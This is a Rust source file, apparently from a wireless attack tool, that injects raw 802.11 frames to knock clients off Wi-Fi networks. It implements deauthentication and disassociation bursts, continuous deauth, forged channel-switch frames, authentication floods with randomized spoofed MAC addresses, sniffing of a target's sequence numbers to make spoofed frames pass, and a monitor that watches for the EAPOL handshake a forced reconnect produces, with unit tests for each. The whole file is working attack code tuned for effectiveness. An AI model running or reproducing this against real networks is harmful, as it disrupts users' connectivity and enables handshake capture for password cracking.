//! Per-interface frame injection.
//!
//! The injector prefers an AF_PACKET raw socket bound to the interface
//! and falls back to a pcap live handle. It owns the 12-bit sequence
//! counter; every serialized frame takes the next number. The inner
//! lock covers only emission — it is released across inter-packet
//! sleeps so concurrent attacks interleave instead of monopolizing the
//! radio.

use std::sync::Arc;
use std::time::Duration;

use rand::Rng;
use tokio::sync::mpsc;
use tokio_util::sync::CancellationToken;

use crate::codec::{eapol, synth, FrameType};
use crate::model::{AuthFloodConfig, DeauthConfig, DeauthMode, Mac};
use crate::ports::InterfaceController;

#[derive(Debug, thiserror::Error)]
pub enum InjectError {
    #[error("socket error: {0}")]
    Socket(String),
    #[error("emission failed: {0}")]
    Emit(String),
    #[error("no injection mechanism available: {0}")]
    NoMechanism(String),
}

/// Reason codes rotated through when fuzzing is enabled.
const FUZZ_REASONS: [u16; 6] = [1, 2, 3, 4, 6, 7];

/// "Station is leaving" — decisively more effective than reason 7 in
/// the client-to-AP direction.
const REASON_STA_LEAVING: u16 = 3;

/// Events from a target monitor session.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MonitorEvent {
    Handshake,
    Disconnected,
}

/// Something that can put a Radiotap-framed 802.11 frame on the air.
pub(crate) trait EmitMechanism: Send {
    fn emit(&mut self, frame: &[u8]) -> Result<(), InjectError>;
}

/// Primary mechanism: AF_PACKET, SOCK_RAW, bound by interface index.
struct RawSocket {
    fd: i32,
}

impl RawSocket {
    fn open(ifindex: i32) -> Result<RawSocket, InjectError> {
        let protocol = (libc::ETH_P_ALL as u16).to_be();
        // SAFETY: plain libc socket setup; the fd is owned by the
        // returned struct and closed on drop.
        unsafe {
            let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, protocol as i32);
            if fd < 0 {
                return Err(InjectError::Socket(
                    std::io::Error::last_os_error().to_string(),
                ));
            }
            let mut addr: libc::sockaddr_ll = std::mem::zeroed();
            addr.sll_family = libc::AF_PACKET as u16;
            addr.sll_protocol = protocol;
            addr.sll_ifindex = ifindex;
            let rc = libc::bind(
                fd,
                &addr as *const libc::sockaddr_ll as *const libc::sockaddr,
                std::mem::size_of::<libc::sockaddr_ll>() as libc::socklen_t,
            );
            if rc < 0 {
                let err = std::io::Error::last_os_error().to_string();
                libc::close(fd);
                return Err(InjectError::Socket(err));
            }
            Ok(RawSocket { fd })
        }
    }
}

impl EmitMechanism for RawSocket {
    fn emit(&mut self, frame: &[u8]) -> Result<(), InjectError> {
        // SAFETY: fd is open for the lifetime of self.
        let sent = unsafe {
            libc::send(
                self.fd,
                frame.as_ptr() as *const libc::c_void,
                frame.len(),
                0,
            )
        };
        if sent < 0 {
            Err(InjectError::Emit(
                std::io::Error::last_os_error().to_string(),
            ))
        } else {
            Ok(())
        }
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: fd was opened by RawSocket::open.
        unsafe {
            libc::close(self.fd);
        }
    }
}

/// Fallback mechanism: pcap live handle.
struct PcapEmitter {
    capture: pcap::Capture<pcap::Active>,
}

impl PcapEmitter {
    fn open(iface: &str) -> Result<PcapEmitter, InjectError> {
        let capture = pcap::Capture::from_device(iface)
            .map_err(|e| InjectError::Socket(e.to_string()))?
            .open()
            .map_err(|e| InjectError::Socket(e.to_string()))?;
        Ok(PcapEmitter { capture })
    }
}

impl EmitMechanism for PcapEmitter {
    fn emit(&mut self, frame: &[u8]) -> Result<(), InjectError> {
        self.capture
            .sendpacket(frame)
            .map_err(|e| InjectError::Emit(e.to_string()))
    }
}

struct InjectorInner {
    sequence: u16,
    mechanism: Option<Box<dyn EmitMechanism>>,
}

impl InjectorInner {
    /// Take the current sequence number and advance the 12-bit counter.
    fn next_sequence(&mut self) -> u16 {
        let seq = self.sequence;
        self.sequence = (self.sequence + 1) & 0x0FFF;
        seq
    }

    fn ensure_mechanism(
        &mut self,
        iface: &str,
        controller: &dyn InterfaceController,
    ) -> Result<&mut Box<dyn EmitMechanism>, InjectError> {
        if self.mechanism.is_none() {
            let mechanism: Box<dyn EmitMechanism> = match controller
                .interface_index(iface)
                .map_err(|e| InjectError::Socket(e.to_string()))
                .and_then(RawSocket::open)
            {
                Ok(socket) => {
                    log::info!("{iface}: injecting via raw socket");
                    Box::new(socket)
                }
                Err(raw_err) => match PcapEmitter::open(iface) {
                    Ok(pcap) => {
                        log::info!("{iface}: raw socket unavailable ({raw_err}), using pcap");
                        Box::new(pcap)
                    }
                    Err(pcap_err) => {
                        return Err(InjectError::NoMechanism(format!(
                            "raw: {raw_err}; pcap: {pcap_err}"
                        )))
                    }
                },
            };
            self.mechanism = Some(mechanism);
        }
        Ok(self.mechanism.as_mut().unwrap())
    }

    fn emit(
        &mut self,
        iface: &str,
        controller: &dyn InterfaceController,
        frame: &[u8],
    ) -> Result<(), InjectError> {
        self.ensure_mechanism(iface, controller)?.emit(frame)
    }
}

pub struct Injector {
    iface: String,
    controller: Arc<dyn InterfaceController>,
    inner: tokio::sync::Mutex<InjectorInner>,
}

impl Injector {
    pub fn new(iface: String, controller: Arc<dyn InterfaceController>) -> Injector {
        Injector {
            iface,
            controller,
            inner: tokio::sync::Mutex::new(InjectorInner {
                sequence: rand::thread_rng().gen_range(0..0x1000),
                mechanism: None,
            }),
        }
    }

    #[cfg(test)]
    pub(crate) fn with_mechanism(
        iface: &str,
        controller: Arc<dyn InterfaceController>,
        mechanism: Box<dyn EmitMechanism>,
        sequence: u16,
    ) -> Injector {
        Injector {
            iface: iface.to_string(),
            controller,
            inner: tokio::sync::Mutex::new(InjectorInner {
                sequence,
                mechanism: Some(mechanism),
            }),
        }
    }

    pub fn interface(&self) -> &str {
        &self.iface
    }

    pub async fn current_sequence(&self) -> u16 {
        self.inner.lock().await.sequence
    }

    /// Seed the sequence counter (from sniffing, typically).
    pub async fn seed_sequence(&self, sequence: u16) {
        self.inner.lock().await.sequence = sequence & 0x0FFF;
    }

    /// Best-effort switch to legacy bitrates; failure is logged, never
    /// fatal.
    pub fn optimize_interface_for_injection(&self) {
        if let Err(err) = self.controller.set_legacy_bitrate(&self.iface) {
            log::debug!("{}: bitrate optimization failed: {err}", self.iface);
        }
    }

    /// Broadcast a probe request for `ssid`.
    pub async fn broadcast_probe(&self, ssid: &str) -> Result<(), InjectError> {
        let mut inner = self.inner.lock().await;
        let seq = inner.next_sequence();
        let frame = synth::probe_request(Mac::random_local(), seq, ssid);
        inner.emit(&self.iface, &*self.controller, &frame)
    }

    /// One deauthentication burst. Returns the number of completed
    /// iterations (an AP/client pair counts as one).
    pub async fn send_deauth_burst(
        &self,
        cancel: &CancellationToken,
        config: &DeauthConfig,
    ) -> Result<u64, InjectError> {
        self.optimize_interface_for_injection();
        let count = if config.packet_count == 0 {
            10
        } else {
            config.packet_count as u64
        };
        self.prepare_sequence(cancel, config).await;

        let mut sent = 0u64;
        for j in 0..count {
            if cancel.is_cancelled() {
                break;
            }
            self.emit_deauth_iteration(config, j, j == 0).await?;
            sent += 1;
            if j + 1 < count && !self.pause_between(cancel, config).await {
                break;
            }
        }
        Ok(sent)
    }

    /// Continuous deauthentication until cancelled. Progress is pushed
    /// to `status` every 10 packets, dropping when the sink is full.
    pub async fn start_continuous_deauth(
        &self,
        cancel: &CancellationToken,
        config: &DeauthConfig,
        status: mpsc::Sender<u64>,
    ) -> Result<u64, InjectError> {
        self.optimize_interface_for_injection();
        self.prepare_sequence(cancel, config).await;

        let mut sent = 0u64;
        while !cancel.is_cancelled() {
            // CSA stays surgical here: only every 50th packet.
            let csa = sent % 50 == 0;
            self.emit_deauth_iteration(config, sent, csa).await?;
            sent += 1;
            if sent % 10 == 0 {
                let _ = status.try_send(sent);
            }
            if !self.pause_between(cancel, config).await {
                break;
            }
        }
        Ok(sent)
    }

    /// Open-system authentication flood. Progress every 50 packets.
    pub async fn start_auth_flood(
        &self,
        cancel: &CancellationToken,
        config: &AuthFloodConfig,
        status: mpsc::Sender<u64>,
    ) -> Result<u64, InjectError> {
        self.optimize_interface_for_injection();
        let interval = Duration::from_millis(config.packet_interval_ms.max(1));
        let fixed_source = Mac::random_local();

        let mut sent = 0u64;
        while !cancel.is_cancelled() {
            if config.packet_count != 0 && sent >= config.packet_count {
                break;
            }
            let source = if config.use_random_mac {
                Mac::random_local()
            } else {
                fixed_source
            };
            {
                let mut inner = self.inner.lock().await;
                let seq = inner.next_sequence();
                let frame = synth::auth(config.target_mac, source, config.target_mac, seq);
                inner.emit(&self.iface, &*self.controller, &frame)?;
            }
            sent += 1;
            if sent % 50 == 0 {
                let _ = status.try_send(sent);
            }
            if !sleep_cancellable(cancel, interval).await {
                break;
            }
        }
        Ok(sent)
    }

    /// Sniff the target's current sequence number for up to 500 ms;
    /// falls back to a random value.
    pub async fn sniff_sequence_number(&self, cancel: &CancellationToken, target: Mac) -> u16 {
        let iface = self.iface.clone();
        let sniff = tokio::task::spawn_blocking(move || sniff_sequence_blocking(&iface, target));
        let sniffed = tokio::select! {
            _ = cancel.cancelled() => None,
            result = sniff => result.ok().flatten(),
        };
        match sniffed {
            Some(seq) => {
                log::debug!("{}: sniffed sequence {seq} from {target}", self.iface);
                (seq + 1) & 0x0FFF
            }
            None => rand::thread_rng().gen_range(0..0x1000),
        }
    }

    /// BPF-filtered listener on the target: emits `Handshake` on EAPOL
    /// and a debounced `Disconnected` after 3 s without data frames.
    pub fn start_monitor(
        self: &Arc<Self>,
        cancel: CancellationToken,
        target: Mac,
        events: mpsc::Sender<MonitorEvent>,
    ) {
        let iface = self.iface.clone();
        std::thread::spawn(move || {
            if let Err(err) = monitor_blocking(&iface, target, &cancel, &events) {
                log::warn!("{iface}: target monitor failed: {err}");
            }
        });
    }

    async fn prepare_sequence(&self, cancel: &CancellationToken, config: &DeauthConfig) {
        let needs_sniff = !config.spoof_source
            && matches!(config.mode, DeauthMode::Unicast | DeauthMode::Targeted);
        if needs_sniff {
            let seq = self.sniff_sequence_number(cancel, config.target_mac).await;
            self.seed_sequence(seq).await;
        }
    }

    /// Emit one burst iteration: the chosen variant toward the client,
    /// plus the reverse deauth for targeted mode. The lock is held for
    /// the whole pair so other attacks interleave between iterations,
    /// never inside one.
    async fn emit_deauth_iteration(
        &self,
        config: &DeauthConfig,
        j: u64,
        use_csa: bool,
    ) -> Result<(), InjectError> {
        let ap = config.target_mac;
        let client = config.client_mac.unwrap_or(Mac::BROADCAST);
        let reason = if config.use_reason_fuzzing {
            FUZZ_REASONS[(j as usize) % FUZZ_REASONS.len()]
        } else {
            config.reason_code
        };
        let forward_source = if config.spoof_source {
            Mac::random_local()
        } else {
            ap
        };

        let addr1 = match config.mode {
            DeauthMode::Broadcast => Mac::BROADCAST,
            DeauthMode::Unicast | DeauthMode::Targeted => client,
        };

        let mut inner = self.inner.lock().await;
        let seq = inner.next_sequence();
        let frame = if use_csa {
            synth::csa(addr1, forward_source, ap, seq, escape_channel(config.channel), 1)
        } else if j % 4 == 0 {
            synth::disassoc(addr1, forward_source, ap, seq, reason)
        } else {
            synth::deauth(addr1, forward_source, ap, seq, reason)
        };
        inner.emit(&self.iface, &*self.controller, &frame)?;

        if config.mode == DeauthMode::Targeted {
            // Client -> AP. Address3 is the BSSID — the AP, not the
            // client.
            let reverse_source = if config.spoof_source {
                Mac::random_local()
            } else {
                client
            };
            let reverse_reason = if config.use_reason_fuzzing || config.reason_code == 0 {
                REASON_STA_LEAVING
            } else {
                config.reason_code
            };
            let seq = inner.next_sequence();
            let frame = synth::deauth(ap, reverse_source, ap, seq, reverse_reason);
            inner.emit(&self.iface, &*self.controller, &frame)?;
        }
        Ok(())
    }

    /// Sleep the configured interval (with ±20% jitter when enabled).
    /// Returns false when cancelled mid-sleep.
    async fn pause_between(&self, cancel: &CancellationToken, config: &DeauthConfig) -> bool {
        let base = config.interval_ms.max(1);
        let millis = if config.use_jitter {
            let factor = rand::thread_rng().gen_range(0.8..1.2);
            (base as f64 * factor) as u64
        } else {
            base
        };
        sleep_cancellable(cancel, Duration::from_millis(millis)).await
    }
}

/// A CSA needs a channel different from the current one.
fn escape_channel(channel: u8) -> u8 {
    if channel < 7 {
        channel + 6
    } else {
        channel.saturating_sub(6).max(1)
    }
}

/// False when the cancellation fired before the sleep finished.
async fn sleep_cancellable(cancel: &CancellationToken, duration: Duration) -> bool {
    tokio::select! {
        _ = cancel.cancelled() => false,
        _ = tokio::time::sleep(duration) => true,
    }
}

fn sniff_sequence_blocking(iface: &str, target: Mac) -> Option<u16> {
    let mut capture = pcap::Capture::from_device(iface)
        .ok()?
        .promisc(true)
        .immediate_mode(true)
        .timeout(100)
        .open()
        .ok()?;
    capture.filter(&format!("wlan addr2 {target}"), true).ok()?;

    let deadline = std::time::Instant::now() + Duration::from_millis(500);
    while std::time::Instant::now() < deadline {
        match capture.next_packet() {
            Ok(packet) => {
                if let Some(frame) = crate::codec::parse_frame(packet.data) {
                    if let Some(sequence) = frame.dot11.sequence {
                        return Some(sequence);
                    }
                }
            }
            Err(pcap::Error::TimeoutExpired) => continue,
            Err(_) => return None,
        }
    }
    None
}

/// What the monitor loop saw in one frame.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum MonitorFrame {
    Eapol,
    Data,
    Other,
}

fn monitor_classify(data: &[u8]) -> MonitorFrame {
    let Some(frame) = crate::codec::parse_frame(data) else {
        return MonitorFrame::Other;
    };
    if frame.dot11.ftype == FrameType::Data {
        if eapol::extract(frame.body)
            .and_then(eapol::key_payload)
            .is_some()
        {
            return MonitorFrame::Eapol;
        }
        return MonitorFrame::Data;
    }
    MonitorFrame::Other
}

fn monitor_blocking(
    iface: &str,
    target: Mac,
    cancel: &CancellationToken,
    events: &mpsc::Sender<MonitorEvent>,
) -> Result<(), InjectError> {
    let mut capture = pcap::Capture::from_device(iface)
        .map_err(|e| InjectError::Socket(e.to_string()))?
        .promisc(true)
        .immediate_mode(true)
        .timeout(250)
        .open()
        .map_err(|e| InjectError::Socket(e.to_string()))?;
    capture
        .filter(&format!("wlan addr2 {target}"), true)
        .map_err(|e| InjectError::Socket(e.to_string()))?;

    let mut last_data = std::time::Instant::now();
    let mut disconnected_sent = false;
    while !cancel.is_cancelled() {
        match capture.next_packet() {
            Ok(packet) => match monitor_classify(packet.data) {
                MonitorFrame::Eapol => {
                    let _ = events.try_send(MonitorEvent::Handshake);
                }
                MonitorFrame::Data => {
                    last_data = std::time::Instant::now();
                    disconnected_sent = false;
                }
                MonitorFrame::Other => {}
            },
            Err(pcap::Error::TimeoutExpired) => {}
            Err(err) => return Err(InjectError::Socket(err.to_string())),
        }
        if !disconnected_sent && last_data.elapsed() >= Duration::from_secs(3) {
            disconnected_sent = true;
            let _ = events.try_send(MonitorEvent::Disconnected);
        }
    }
    Ok(())
}


#[cfg(test)]
mod tests {
    use super::testutil::test_injector;
    use super::*;
    use crate::codec::{self, dot11};

    const AP: Mac = Mac([0xAA, 0x00, 0x00, 0x00, 0x00, 0x01]);
    const CLIENT: Mac = Mac([0xCC, 0x00, 0x00, 0x00, 0x00, 0x02]);

    fn targeted_config() -> DeauthConfig {
        DeauthConfig {
            interface: "wlan-test".into(),
            target_mac: AP,
            client_mac: Some(CLIENT),
            channel: 6,
            mode: DeauthMode::Targeted,
            packet_count: 3,
            interval_ms: 10,
            reason_code: 7,
            spoof_source: true, // skip live sequence sniffing
            use_jitter: false,
            use_reason_fuzzing: false,
        }
    }

    fn parse(frame: &[u8]) -> codec::Dot11Header {
        codec::parse_frame(frame).unwrap().dot11
    }

    // ── sequence discipline (P2) ────────────────────────────────────

    #[tokio::test(start_paused = true)]
    async fn unicast_burst_advances_sequence_by_n() {
        let (injector, _emitter) = test_injector(100);
        let config = DeauthConfig {
            mode: DeauthMode::Unicast,
            packet_count: 5,
            ..targeted_config()
        };
        let cancel = CancellationToken::new();
        let sent = injector.send_deauth_burst(&cancel, &config).await.unwrap();
        assert_eq!(sent, 5);
        assert_eq!(injector.current_sequence().await, 105);
    }

    #[tokio::test(start_paused = true)]
    async fn targeted_burst_advances_sequence_by_two_n() {
        let (injector, _emitter) = test_injector(100);
        let cancel = CancellationToken::new();
        let sent = injector
            .send_deauth_burst(&cancel, &targeted_config())
            .await
            .unwrap();
        assert_eq!(sent, 3);
        assert_eq!(injector.current_sequence().await, 106);
    }

    #[tokio::test(start_paused = true)]
    async fn sequence_wraps_at_twelve_bits() {
        let (injector, _emitter) = test_injector(0x0FFE);
        let config = DeauthConfig {
            mode: DeauthMode::Unicast,
            packet_count: 4,
            ..targeted_config()
        };
        let cancel = CancellationToken::new();
        injector.send_deauth_burst(&cancel, &config).await.unwrap();
        assert_eq!(injector.current_sequence().await, 2);
    }

    // ── targeted addressing (P3, E3) ────────────────────────────────

    #[tokio::test(start_paused = true)]
    async fn targeted_burst_emits_pairs_with_ap_bssid() {
        let (injector, emitter) = test_injector(0);
        let cancel = CancellationToken::new();
        let sent = injector
            .send_deauth_burst(&cancel, &targeted_config())
            .await
            .unwrap();
        assert_eq!(sent, 3);

        let frames = emitter.frames.lock().unwrap();
        assert_eq!(frames.len(), 6, "three AP/client pairs");
        for (i, frame) in frames.iter().enumerate() {
            let header = parse(frame);
            // Address3 is the AP in both directions — including the
            // client-to-AP packets.
            assert_eq!(header.addr3, Some(AP), "frame {i} BSSID");
        }
        // Even frames go to the client, odd frames to the AP.
        for pair in frames.chunks(2) {
            assert_eq!(parse(&pair[0]).addr1, CLIENT);
            assert_eq!(parse(&pair[1]).addr1, AP);
        }
    }

    #[tokio::test(start_paused = true)]
    async fn burst_variant_rotation() {
        let (injector, emitter) = test_injector(0);
        let config = DeauthConfig {
            mode: DeauthMode::Unicast,
            packet_count: 9,
            ..targeted_config()
        };
        let cancel = CancellationToken::new();
        injector.send_deauth_burst(&cancel, &config).await.unwrap();

        let frames = emitter.frames.lock().unwrap();
        let subtypes: Vec<u8> = frames.iter().map(|f| parse(f).subtype).collect();
        // j=0 CSA (action), j=4 and j=8 disassoc, the rest deauth.
        assert_eq!(subtypes[0], dot11::SUBTYPE_ACTION);
        assert_eq!(subtypes[4], dot11::SUBTYPE_DISASSOC);
        assert_eq!(subtypes[8], dot11::SUBTYPE_DISASSOC);
        for &j in &[1usize, 2, 3, 5, 6, 7] {
            assert_eq!(subtypes[j], dot11::SUBTYPE_DEAUTH, "frame {j}");
        }
    }

    #[tokio::test(start_paused = true)]
    async fn reason_fuzzing_rotates_codes() {
        let (injector, emitter) = test_injector(0);
        let config = DeauthConfig {
            mode: DeauthMode::Unicast,
            packet_count: 8,
            use_reason_fuzzing: true,
            ..targeted_config()
        };
        let cancel = CancellationToken::new();
        injector.send_deauth_burst(&cancel, &config).await.unwrap();

        let frames = emitter.frames.lock().unwrap();
        // Skip j=0 (CSA carries no reason); j=4 is disassoc but still
        // carries the rotated reason.
        let reasons: Vec<u16> = frames[1..]
            .iter()
            .map(|f| {
                let frame = codec::parse_frame(f).unwrap();
                u16::from_le_bytes([frame.body[0], frame.body[1]])
            })
            .collect();
        assert_eq!(reasons, vec![2, 3, 4, 6, 7, 1, 2]);
    }

    #[tokio::test(start_paused = true)]
    async fn targeted_reverse_uses_station_leaving_when_fuzzing() {
        let (injector, emitter) = test_injector(0);
        let config = DeauthConfig {
            use_reason_fuzzing: true,
            packet_count: 2,
            ..targeted_config()
        };
        let cancel = CancellationToken::new();
        injector.send_deauth_burst(&cancel, &config).await.unwrap();

        let frames = emitter.frames.lock().unwrap();
        // Frames 1 and 3 are client->AP deauths; their reason must be 3.
        for &i in &[1usize, 3] {
            let frame = codec::parse_frame(&frames[i]).unwrap();
            assert!(frame.dot11.is_mgmt(dot11::SUBTYPE_DEAUTH));
            let reason = u16::from_le_bytes([frame.body[0], frame.body[1]]);
            assert_eq!(reason, REASON_STA_LEAVING);
        }
    }

    #[tokio::test(start_paused = true)]
    async fn spoofed_sources_are_local_unicast() {
        let (injector, emitter) = test_injector(0);
        let cancel = CancellationToken::new();
        injector
            .send_deauth_burst(&cancel, &targeted_config())
            .await
            .unwrap();
        for frame in emitter.frames.lock().unwrap().iter() {
            let source = parse(frame).addr2.unwrap();
            assert!(source.is_locally_administered());
            assert!(!source.is_multicast());
        }
    }

    // ── cancellation ────────────────────────────────────────────────

    #[tokio::test(start_paused = true)]
    async fn cancelled_burst_stops_early() {
        let (injector, emitter) = test_injector(0);
        let config = DeauthConfig {
            mode: DeauthMode::Unicast,
            packet_count: 1000,
            interval_ms: 10,
            ..targeted_config()
        };
        let cancel = CancellationToken::new();
        let task = {
            let injector = injector.clone();
            let cancel = cancel.clone();
            tokio::spawn(async move { injector.send_deauth_burst(&cancel, &config).await })
        };
        tokio::time::sleep(Duration::from_millis(55)).await;
        cancel.cancel();
        let sent = task.await.unwrap().unwrap();
        assert!(sent < 1000, "cancelled well before completion");
        assert_eq!(emitter.frames.lock().unwrap().len() as u64, sent);
    }

    // ── continuous ──────────────────────────────────────────────────

    #[tokio::test(start_paused = true)]
    async fn continuous_reports_every_ten_and_uses_csa_sparsely() {
        let (injector, emitter) = test_injector(0);
        let config = DeauthConfig {
            mode: DeauthMode::Unicast,
            packet_count: 0,
            interval_ms: 10,
            ..targeted_config()
        };
        let (status_tx, mut status_rx) = mpsc::channel(64);
        let cancel = CancellationToken::new();
        let task = {
            let injector = injector.clone();
            let cancel = cancel.clone();
            tokio::spawn(
                async move { injector.start_continuous_deauth(&cancel, &config, status_tx).await },
            )
        };
        // 60 intervals of 10 ms — roughly 60 packets.
        tokio::time::sleep(Duration::from_millis(605)).await;
        cancel.cancel();
        let sent = task.await.unwrap().unwrap();
        assert!(sent >= 55, "expected steady emission, got {sent}");

        let mut updates = Vec::new();
        while let Ok(update) = status_rx.try_recv() {
            updates.push(update);
        }
        assert!(updates.contains(&10));
        assert!(updates.contains(&50));

        let frames = emitter.frames.lock().unwrap();
        let csa_count = frames
            .iter()
            .filter(|f| parse(f).subtype == dot11::SUBTYPE_ACTION)
            .count();
        assert_eq!(csa_count, 2, "CSA only at packets 0 and 50");
    }

    // ── auth flood ──────────────────────────────────────────────────

    #[tokio::test(start_paused = true)]
    async fn auth_flood_emits_open_system_auth() {
        let (injector, emitter) = test_injector(0);
        let config = AuthFloodConfig {
            interface: "wlan-test".into(),
            target_mac: AP,
            channel: 1,
            packet_count: 60,
            packet_interval_ms: 10,
            use_random_mac: true,
        };
        let (status_tx, mut status_rx) = mpsc::channel(8);
        let cancel = CancellationToken::new();
        let sent = injector
            .start_auth_flood(&cancel, &config, status_tx)
            .await
            .unwrap();
        assert_eq!(sent, 60);
        assert_eq!(injector.current_sequence().await, 60);

        let frames = emitter.frames.lock().unwrap();
        assert_eq!(frames.len(), 60);
        let mut sources = std::collections::HashSet::new();
        for frame in frames.iter() {
            let header = parse(frame);
            assert!(header.is_mgmt(dot11::SUBTYPE_AUTH));
            assert_eq!(header.addr1, AP);
            sources.insert(header.addr2.unwrap());
        }
        assert!(sources.len() > 50, "sources are randomized per packet");
        assert_eq!(status_rx.try_recv(), Ok(50));
    }

    #[tokio::test(start_paused = true)]
    async fn auth_flood_fixed_source_when_not_random() {
        let (injector, emitter) = test_injector(0);
        let config = AuthFloodConfig {
            interface: "wlan-test".into(),
            target_mac: AP,
            channel: 1,
            packet_count: 5,
            packet_interval_ms: 1,
            use_random_mac: false,
        };
        let (status_tx, _status_rx) = mpsc::channel(8);
        let cancel = CancellationToken::new();
        injector
            .start_auth_flood(&cancel, &config, status_tx)
            .await
            .unwrap();
        let frames = emitter.frames.lock().unwrap();
        let sources: std::collections::HashSet<_> =
            frames.iter().map(|f| parse(f).addr2.unwrap()).collect();
        assert_eq!(sources.len(), 1);
    }

    // ── probe and helpers ───────────────────────────────────────────

    #[tokio::test]
    async fn broadcast_probe_emits_probe_request() {
        let (injector, emitter) = test_injector(7);
        injector.broadcast_probe("TestNet").await.unwrap();
        let frames = emitter.frames.lock().unwrap();
        let frame = codec::parse_frame(&frames[0]).unwrap();
        assert!(frame.dot11.is_mgmt(dot11::SUBTYPE_PROBE_REQ));
        assert_eq!(frame.dot11.sequence, Some(7));
        assert_eq!(injector.current_sequence().await, 8);
    }

    #[test]
    fn escape_channel_always_differs() {
        for channel in 1..=165u8 {
            assert_ne!(escape_channel(channel), channel);
        }
    }

    #[test]
    fn monitor_classifier_distinguishes_frames() {
        let body = eapol::build_data_body(0x0088, 0);
        let eapol_frame = codec::testutil::data_frame(false, true, CLIENT, AP, AP, &body);
        assert_eq!(monitor_classify(&eapol_frame), MonitorFrame::Eapol);

        let data_frame = codec::testutil::data_frame(true, false, AP, CLIENT, AP, &[0u8; 20]);
        assert_eq!(monitor_classify(&data_frame), MonitorFrame::Data);

        let beacon = codec::testutil::beacon(AP, &[]);
        assert_eq!(monitor_classify(&beacon), MonitorFrame::Other);
    }
}
